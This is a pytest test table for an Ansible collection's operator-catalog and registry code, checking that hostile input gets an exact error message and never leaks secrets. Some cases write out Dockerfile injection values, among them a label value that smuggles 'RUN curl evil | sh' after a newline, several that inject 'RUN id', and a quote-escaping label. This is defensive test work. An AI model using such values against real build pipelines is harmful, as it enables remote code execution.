# -*- coding: utf-8 -*-
# Copyright: (c) 2026, kubeforge.operators contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""One table of hostile input across the catalog engine (fbc) and the registry client (oci): each case names the
exact message (or a stable fragment) it must produce, and, where the input holds a secret, that the secret appears in
no message. Items: Dockerfile/label/platform injection, invalid UTF-8 with the byte offset, bounded excerpts of huge
input, credentials in image references, release version vs CSV, YAML anchors in edited templates, upgrade cycles."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import json
import os
import shutil

import pytest
from lib.fbc import SVG_SMALL_CIRCLE, cfg, new_test_bundle, new_test_channel, new_test_package
from lib.testdata import data_path

from ansible_collections.kubeforge.operators.plugins.module_utils.catalog.templates import add_to_template, remove_from_template
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.action import dockerfile as D
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.action import migrate as M
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.action import release as R
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.action.render_bundle import (
    BundleLookup,
    render_bundle_dir_blob,
)
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.declcfg import load as L
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.declcfg.config import DeclarativeConfig
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.imageref import check_image_reference
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.model.convert import convert_to_model
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.model.graph import upgrade_path
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.model.validate import validate_config
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.template.convert import convert_fbc_stream
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.template.edit import check_template_rewritable
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.template.registry import render_template
from ansible_collections.kubeforge.operators.plugins.module_utils.fbc.template.util import call_renderer, load_first_document
from ansible_collections.kubeforge.operators.plugins.module_utils.oci.auth import load_docker_config
from ansible_collections.kubeforge.operators.plugins.module_utils.oci.client import parse_platform
from ansible_collections.kubeforge.operators.plugins.module_utils.oci.errors import RegistryError, redact
from ansible_collections.kubeforge.operators.plugins.module_utils.oci.reference import parse_reference

SECRET = "s3cr3t-PASSWORD"
CREDS = "image reference must not contain credentials (user:password@)"
HUGE = 16 * 1024 * 1024  # 16 MiB of input must give a message of a few KiB at most
BAD_UTF8 = b"schema: olm.package\nname: caf\xc3\xa9-\xff\n"  # first bad byte at offset 32 (after a valid "é")
FOO_BUNDLE = data_path("opm-testdata", "alpha", "action", "testdata", "foo-bundle-v0.2.0")


def _write(tmp_path, name, data):
    p = tmp_path / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return str(p)


def _dockerfile(labels=None, base="scratch", builder=None, index_dir="catalog"):
    return D.generate_dockerfile(index_dir, base_image=base, builder_image=builder, extra_labels=labels)


def _bundle_with_bad_manifest(tmp_path):
    d = tmp_path / "bundle"
    shutil.copytree(str(FOO_BUNDLE), str(d))
    (d / "manifests" / "extra.yaml").write_bytes(b"kind: ConfigMap\ndata: {a: \"\xfe\"}\n")
    render_bundle_dir_blob(str(d))


def _ignore_file(tmp_path):
    _write(tmp_path, "cat/.indexignore", b"# ignore\n\xc0\n")
    L.load_fs(str(tmp_path / "cat"))


def _release_template(tmp_path):
    R.load_template_file(_write(tmp_path, "basic.yaml", b"schema: olm.template.basic\n#\x80\n"))


def _render_tasks_template(tmp_path):
    task = R.RenderTask("p", "v4.20", "basic.yaml", "basic", "operators/p/catalog-templates/basic.yaml",
                        "catalogs/v4.20/p/catalog.yaml", "none")
    R.render_tasks([task], {"basic.yaml": b"schema: olm.template.basic\n\xff"}, BundleLookup())


def _bundle_object(_tmp_path):
    import base64
    M.decode_bundle_object({"data": base64.b64encode(b'{"kind": "\xe9"}').decode("ascii")})


def _docker_config(tmp_path):
    load_docker_config(_write(tmp_path, "config.json", b'{"auths": {"\xff": {}}}'))


def _huge_no_schema(tmp_path):
    L.load_file(_write(tmp_path, "big.json", json.dumps({"name": "x" * HUGE})))


def _huge_array(tmp_path):
    L.load_file(_write(tmp_path, "big.json", json.dumps(["x" * HUGE])))


def _huge_schema_value(tmp_path):
    L.load_file(_write(tmp_path, "big.json", json.dumps({"schema": ["x" * HUGE]})))


def _huge_bundle_name(tmp_path):
    L.load_file(_write(tmp_path, "big.json", json.dumps({"schema": "olm.bundle", "name": "b" * HUGE, "properties": {}})))


def _huge_skip_range(_tmp_path):
    c = cfg(packages=[new_test_package("p", "s", SVG_SMALL_CIRCLE)],
            channels=[new_test_channel("p", "s", {"name": "p.v1.0.0", "skipRange": "<" + "9" * HUGE})],
            bundles=[new_test_bundle("p", "1.0.0")])
    result = validate_config(c)
    assert not result.valid
    raise ValueError("\n".join(result.errors))


def _credentials_in_catalog(_tmp_path):
    b = new_test_bundle("p", "1.0.0")
    b["image"] = "robot:%s@quay.io/org/p-bundle:v1.0.0" % SECRET
    c = cfg(packages=[new_test_package("p", "s", SVG_SMALL_CIRCLE)],
            channels=[new_test_channel("p", "s", {"name": "p.v1.0.0"})], bundles=[b])
    result = validate_config(c)
    raise ValueError("\n".join(result.errors))


def _credentials_in_template(_tmp_path):
    tpl = {"schema": "olm.template.basic", "entries": [
        {"schema": "olm.bundle", "image": "robot:%s@quay.io/org/p-bundle:v1" % SECRET}]}
    render_template(tpl, BundleLookup())


def _cyclic_model():
    entries = [{"name": "p.v1.0.0"}, {"name": "p.v1.0.1", "replaces": "p.v1.0.0", "skips": ["p.v1.0.2"]},
               {"name": "p.v1.0.2", "replaces": "p.v1.0.1"}, {"name": "p.v1.0.3", "replaces": "p.v1.0.2"}]
    return convert_to_model(cfg(packages=[new_test_package("p", "stable", SVG_SMALL_CIRCLE)],
                                channels=[new_test_channel("p", "stable", *entries)],
                                bundles=[new_test_bundle("p", v) for v in ("1.0.0", "1.0.1", "1.0.2", "1.0.3")]),
                            validate=False)


def _csv(name, version=None):
    csv = {"metadata": {"name": name}, "spec": {}}
    if version is not None:
        csv["spec"]["version"] = version
    return csv


# (id, action(tmp_path), exception type, expected message, match: "exact" / "fragment" / "startswith")
def _raise(error):
    raise error


CASES = [
    # 1. Dockerfile generation: nothing can start a new line/instruction; images are real references
    ("dockerfile-label-value-newline", lambda t: _dockerfile({"k": "v\nRUN curl evil | sh"}), Exception,
     'label "k" must not contain a line break or control character ("\\n" at character 1)', "exact"),
    ("dockerfile-label-key-cr", lambda t: _dockerfile({"k\r": "v"}), Exception,
     'label key must not contain a line break or control character ("\\r" at character 1)', "exact"),
    ("dockerfile-label-value-nul", lambda t: _dockerfile({"k": "a\x00b"}), Exception,
     'label "k" must not contain a line break or control character ("\\u0000" at character 1)', "exact"),
    ("dockerfile-label-empty-key", lambda t: _dockerfile({"": "v"}), Exception, "label key must not be empty", "exact"),
    ("dockerfile-base-newline", lambda t: _dockerfile(base="quay.io/o/opm:1\nRUN id"), Exception,
     'base image must not contain a line break or control character ("\\n" at character 15)', "exact"),
    ("dockerfile-builder-newline", lambda t: _dockerfile(builder="quay.io/o/opm\r\nRUN id"), Exception,
     'builder image must not contain a line break or control character ("\\r" at character 13)', "exact"),
    ("dockerfile-builder-invalid", lambda t: _dockerfile(builder="Quay.io/Foo/Opm"), Exception,
     'invalid builder image "Quay.io/Foo/Opm": invalid reference format: repository name must be lowercase', "exact"),
    ("dockerfile-base-invalid", lambda t: _dockerfile(base="quay.io/o/opm:bad tag"), Exception,
     'invalid base image "quay.io/o/opm:bad tag": invalid reference format', "exact"),
    ("dockerfile-base-credentials", lambda t: _dockerfile(base="robot:%s@quay.io/o/opm:1" % SECRET), Exception,
     "base image: " + CREDS, "exact"),
    ("dockerfile-index-dir-newline", lambda t: _dockerfile(index_dir="cat\nRUN id"), Exception,
     'index directory must not contain a line break or control character ("\\n" at character 3)', "exact"),
    ("platform-newline", lambda t: parse_platform("linux/amd64\nRUN id"), ValueError,
     "invalid platform 'linux/amd64\\nRUN id': expected os/arch[/variant]", "exact"),
    ("platform-no-arch", lambda t: parse_platform("linux"), ValueError,
     "invalid platform 'linux': expected os/arch[/variant]", "exact"),
    ("platform-too-many-parts", lambda t: parse_platform("linux/arm64/v8/x"), ValueError,
     "invalid platform 'linux/arm64/v8/x': expected os/arch[/variant]", "exact"),

    # 2. invalid UTF-8: the file and the offset of the first bad byte, never U+FFFD
    ("utf8-catalog-file", lambda t: L.load_file(_write(t, "c.yaml", BAD_UTF8)), Exception,
     "c.yaml: invalid UTF-8 at byte 32", "endswith"),
    ("utf8-indexignore", _ignore_file, Exception, ".indexignore: invalid UTF-8 at byte 9", "endswith"),
    ("utf8-template-file", _release_template, Exception, "basic.yaml: invalid UTF-8 at byte 28", "endswith"),
    ("utf8-template-document", lambda t: load_first_document(BAD_UTF8, source="t.yaml"), Exception,
     "t.yaml: invalid UTF-8 at byte 32", "exact"),
    ("utf8-convert-stream", lambda t: convert_fbc_stream(BAD_UTF8, source="catalog.yaml"), Exception,
     "catalog.yaml: invalid UTF-8 at byte 32", "exact"),
    ("utf8-render-template", lambda t: render_template(b"schema: olm.template.basic\n\xff", BundleLookup()), Exception,
     "invalid UTF-8 at byte 27", "exact"),
    ("utf8-render-tasks", _render_tasks_template, Exception,
     "operators/p/catalog-templates/basic.yaml: invalid UTF-8 at byte 27", "exact"),
    ("utf8-bundle-manifest", _bundle_with_bad_manifest, Exception, "extra.yaml: invalid UTF-8 at byte 27", "endswith"),
    ("utf8-release-config", lambda t: R.parse_release_config(b"catalog_templates: []\n\xff"), Exception,
     "release-config.yaml: invalid UTF-8 at byte 22", "exact"),
    ("utf8-ci-yaml", lambda t: R.parse_ci_fbc(b"fbc:\n  enabled: true\n\xe2\x82"), Exception,
     "ci.yaml: invalid UTF-8 at byte 21", "exact"),
    ("utf8-bundle-object", _bundle_object, Exception, "olm.bundle.object data: invalid UTF-8 at byte 10", "exact"),
    ("utf8-docker-config", _docker_config, Exception, "config.json: invalid UTF-8 at byte 12", "endswith"),

    # 3. huge input: bounded excerpts (the whole check is in test_bad_input_table, below: message < 4 KiB)
    ("huge-object-without-schema", _huge_no_schema, Exception, "more characters)\n' is missing root schema field",
     "fragment"),
    ("huge-top-level-array", _huge_array, Exception, "json: cannot unmarshal array into Go value", "fragment"),
    ("huge-schema-value", _huge_schema_value, Exception, 'expected value for key "schema" to be a string', "fragment"),
    ("huge-bundle-name", _huge_bundle_name, Exception, "more characters)", "fragment"),
    ("huge-skip-range", _huge_skip_range, ValueError, 'invalid bundle "p.v1.0.0": invalid skipRange', "fragment"),
    ("huge-image-reference", lambda t: parse_reference("quay.io/" + "a" * HUGE), Exception,
     "contains whitespace or is too long", "fragment"),
    ("huge-platform", lambda t: parse_platform("linux/" + "x" * HUGE + "!"), ValueError, "more characters)",
     "fragment"),
    ("huge-label-key", lambda t: _dockerfile({"k" * HUGE: "a\nb"}), Exception, "more characters)", "fragment"),

    # 4. credentials in image references: refused, never echoed
    ("creds-oci-reference", lambda t: parse_reference("robot:%s@quay.io/org/cat:1" % SECRET), Exception,
     "invalid image reference: " + CREDS, "exact"),
    ("creds-oci-reference-no-path", lambda t: parse_reference("robot:%s@localhost:5000" % SECRET), Exception,
     "invalid image reference: " + CREDS, "exact"),
    ("creds-oci-reference-url", lambda t: parse_reference("https://robot:%s@quay.io/org/cat" % SECRET), Exception,
     "invalid image reference: " + CREDS, "exact"),
    ("creds-fbc-reference", lambda t: check_image_reference("robot:%s@quay.io/o/b:1" % SECRET, "bundle image"),
     ValueError, "bundle image: " + CREDS, "exact"),
    ("creds-bundle-lookup", lambda t: BundleLookup()("robot:%s@quay.io/o/b:1" % SECRET), Exception,
     "bundle image: " + CREDS, "exact"),
    ("creds-template-image", _credentials_in_template, Exception,
     'render reference "<redacted>@quay.io/org/p-bundle:v1": ' + CREDS, "exact"),
    ("creds-catalog-image-validate", _credentials_in_catalog, ValueError,
     'invalid image pull spec "<redacted>@quay.io/org/p-bundle:v1.0.0"', "fragment"),
    # a "/" or "@" inside the password still masks the whole user info
    ("creds-oci-reference-slash-in-password", lambda t: parse_reference("robot:%s/x@quay.io/org/cat:1" % SECRET),
     Exception, "invalid image reference: " + CREDS, "exact"),
    ("creds-template-image-at-in-password", lambda t: call_renderer(
        lambda ref: None, "robot:%s@x@quay.io/org/p-bundle:v1" % SECRET), Exception,
     'render reference "<redacted>@quay.io/org/p-bundle:v1": ' + CREDS, "exact"),
    ("creds-add-bundle-image", lambda t: add_to_template(
        None, "basic", "robot:%s@quay.io/o/b:1" % SECRET, ["stable"], name="b.v1", package="b"), ValueError,
     "add_bundle.image: " + CREDS, "exact"),
    ("creds-remove-bundle-image", lambda t: remove_from_template(
        {"schema": "olm.template.basic", "entries": []}, "basic", ["robot:%s@quay.io/o/b:1" % SECRET]), Exception,
     "remove_bundle: " + CREDS, "exact"),
    ("creds-redact-registry-message", lambda t: _raise(
        RegistryError("GET https://robot:%s/x@quay.io/v2/o/b failed" % SECRET)), Exception,
     "GET https://<redacted>@quay.io/v2/o/b failed", "exact"),

    # 5. release version vs the bundle's CSV
    ("release-version-vs-spec", lambda t: R.check_release_version("1.2.4", _csv("p.v1.2.3", "1.2.3")), Exception,
     'version "1.2.4" does not match the bundle: its CSV "p.v1.2.3" has spec.version "1.2.3"', "exact"),
    ("release-version-vs-name", lambda t: R.check_release_version("2.0.0", _csv("p.v1.2.3")), Exception,
     'version "2.0.0" does not match the bundle: its CSV "p.v1.2.3" has name "p.v1.2.3"', "exact"),
    ("release-version-unknown", lambda t: R.check_release_version("1.0.0", _csv("p-operator")), Exception,
     'bundle CSV "p-operator" has no spec.version to check version "1.0.0" against', "exact"),

    # 6. edited YAML templates with anchors/aliases are not rewritten
    ("template-anchors", lambda t: check_template_rewritable(
        "schema: olm.template.basic\nentries:\n- &ch {schema: olm.channel, name: a}\n- *ch\n", "t.yaml"), Exception,
     "t.yaml: template uses YAML anchors/aliases (&ch): writing the edited template would expand them into copies, "
     "so it is left unchanged; edit it by hand or remove the anchors first", "exact"),
    ("template-merge-key", lambda t: check_template_rewritable(
        b"x: &base {a: 1}\ny:\n  <<: *base\n  b: 2\n"), Exception, "template uses YAML anchors/aliases (&base)",
     "startswith"),

    # 7. upgrade cycles are reported, not walked through
    ("upgrade-path-cycle", lambda t: upgrade_path(_cyclic_model(), "p", "p.v1.0.0"), Exception,
     'upgrade graph of channel "stable" has a cycle reachable from "p.v1.0.0": p.v1.0.1 -> p.v1.0.2 -> p.v1.0.1',
     "exact"),
]


@pytest.mark.parametrize("action,exc,expected,match", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_table(tmp_path, action, exc, expected, match):
    with pytest.raises(exc) as info:
        action(tmp_path)
    message = str(info.value)
    if match == "exact":
        assert message == expected
    elif match == "startswith":
        assert message.startswith(expected)
    elif match == "endswith":
        assert message.endswith(expected)
    else:
        assert expected in message
    assert SECRET not in message and SECRET not in repr(info.value)
    assert "\ufffd" not in message
    assert len(message) < 4 * 1024 + 256


def test_escaped_label_quotes_stay_on_their_line():
    """opm writes label keys/values unquoted inside "..."; a quote or backslash is escaped instead of ending the
    string (ordinary labels are written exactly as opm writes them)."""
    text = _dockerfile({"k": 'a" "evil"="x', "plain": "v"})
    assert 'LABEL "k"="a\\" \\"evil\\"=\\"x"\n' in text
    assert 'LABEL "plain"="v"\n' in text
    assert text.count("\nLABEL ") == 3


def test_valid_inputs_still_pass(tmp_path):
    assert parse_platform("linux/arm64/v8") == {"os": "linux", "architecture": "arm64", "variant": "v8"}
    assert parse_reference("busybox:1@sha256:" + "a" * 64).tag == "1"
    assert check_image_reference("quay.io/o/b:v1@sha256:" + "0" * 64) == "quay.io/o/b:v1@sha256:" + "0" * 64
    assert R.check_release_version("1.2.3", _csv("p.v1.2.3", "1.2.3")) == "1.2.3"
    assert R.check_release_version("v1.2.3", _csv("p-operator", "1.2.3")) == "1.2.3"
    assert R.check_release_version("1.2.3", _csv("p.v1.2.3")) == "1.2.3"
    check_template_rewritable(None)
    check_template_rewritable('{"schema": "olm.template.basic", "entries": []}\n')
    check_template_rewritable("schema: olm.template.basic\nentries:\n- {schema: olm.package, name: '*&x'}\n")
    assert upgrade_path(_cyclic_model(), "p", "p.v1.0.3") == []
    assert redact("pull robot:%s@quay.io/o/b:1 failed" % SECRET) == "pull <redacted>@quay.io/o/b:1 failed"
    # a catalog file with valid UTF-8 beyond ASCII loads
    assert L.load_file(_write(tmp_path, "ok.yaml", "schema: olm.package\nname: café\n")).packages[0]["name"] == "café"


def test_bad_input_table_is_complete():
    assert len({c[0] for c in CASES}) == len(CASES)
    assert isinstance(DeclarativeConfig(), DeclarativeConfig)
    assert os.path.isdir(str(FOO_BUNDLE))
